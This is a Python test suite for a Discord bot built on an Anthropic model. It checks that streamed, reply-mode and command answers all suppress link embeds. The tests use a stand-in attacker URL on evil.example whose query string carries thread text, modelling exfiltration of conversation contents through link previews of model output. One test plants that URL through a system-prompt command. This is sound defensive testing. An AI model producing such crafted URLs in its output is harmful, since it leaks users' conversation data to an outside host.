"""No link previews on Discord: every message the bot sends or edits suppresses embeds,
so a crafted URL in the model's output is never fetched by Discord's crawler.

The fake Discord unfurls any link of a message sent or edited without SUPPRESS_EMBEDS
(`FakeDiscord.link_previews`), as Discord does."""

from __future__ import annotations

from fakes.anthropic_server import FakeAnthropic
from fakes.discord_server import FLAG_SUPPRESS_EMBEDS, message_payload, reply_reference
from tests.discord_harness import MANAGE_GUILD, DiscordHarness

CRAFTED = "https://evil.example/p.png?d=the-thread-text"


def writes(harness: DiscordHarness) -> list[dict[str, object]]:
    """The JSON body of every message send and edit the bot made."""
    records = harness.fake.requests_to("create_message") + harness.fake.requests_to("edit_message")
    return [record.json for record in records]


async def test_the_fake_previews_a_link_sent_without_suppressing_embeds(discord_bot: DiscordHarness) -> None:
    channel = discord_bot.adapter.client.get_channel(int(discord_bot.channel["id"]))
    assert channel is not None
    await channel.send(f"look {CRAFTED}")  # type: ignore[union-attr]
    assert [preview.url for preview in discord_bot.fake.link_previews] == [CRAFTED]


async def test_a_streamed_answer_in_several_parts_never_previews_a_link(
    discord_bot: DiscordHarness, fake_anthropic: FakeAnthropic
) -> None:
    fake_anthropic.chunk_delay = 0.02
    words = " ".join(f"w{i}" for i in range(60))
    fake_anthropic.queue_reply(f"see {CRAFTED} {words} " + "x" * 2100 + f" and {CRAFTED}&again")
    root = discord_bot.say("show me a picture", mention=True)
    await discord_bot.settle()

    sent = [m for m in discord_bot.fake.sent(int(root["id"])) if m.by_bot]
    assert len(sent) >= 2, "the answer came in several messages"
    assert any(discord_bot.fake.edits(m.id) for m in sent), "the answer streamed as edits"
    assert CRAFTED in "".join(m.content for m in sent)
    bodies = writes(discord_bot)
    assert bodies and all(isinstance(b, dict) and int(b.get("flags") or 0) & FLAG_SUPPRESS_EMBEDS for b in bodies)
    assert discord_bot.fake.link_previews == []


async def test_a_reply_mode_answer_never_previews_a_link(
    discord_bot: DiscordHarness, fake_anthropic: FakeAnthropic
) -> None:
    discord_bot.fake.refuse_threads_in(discord_bot.channel["id"])
    fake_anthropic.queue_reply(f"here: {CRAFTED}")
    discord_bot.say("no threads here", mention=True)
    await discord_bot.settle()
    [answer] = [m for m in discord_bot.fake.sent(discord_bot.channel["id"]) if m.by_bot]
    assert answer.content == f"here: {CRAFTED}" and answer.flags & FLAG_SUPPRESS_EMBEDS
    assert discord_bot.fake.link_previews == []

    fake_anthropic.queue_reply(f"again: {CRAFTED}")
    answer_payload = message_payload(
        discord_bot.channel["id"], discord_bot.bot, answer.content, guild_id=discord_bot.guild_id, message_id=answer.id
    )
    discord_bot.say("more", message_reference=reply_reference(answer_payload), type=19)
    await discord_bot.settle()
    assert discord_bot.fake.link_previews == []


async def test_a_command_answer_never_previews_a_link(discord_bot: DiscordHarness) -> None:
    interaction = discord_bot.command("system", permissions=MANAGE_GUILD, prompt=f"Cite {CRAFTED} always.")
    await discord_bot.answer_to(interaction)
    shown = discord_bot.command("show")
    assert CRAFTED in await discord_bot.answer_to(shown)
    response = discord_bot.fake.original_response(shown)
    assert response is not None and response.ephemeral and response.flags & FLAG_SUPPRESS_EMBEDS
    assert discord_bot.fake.link_previews == []
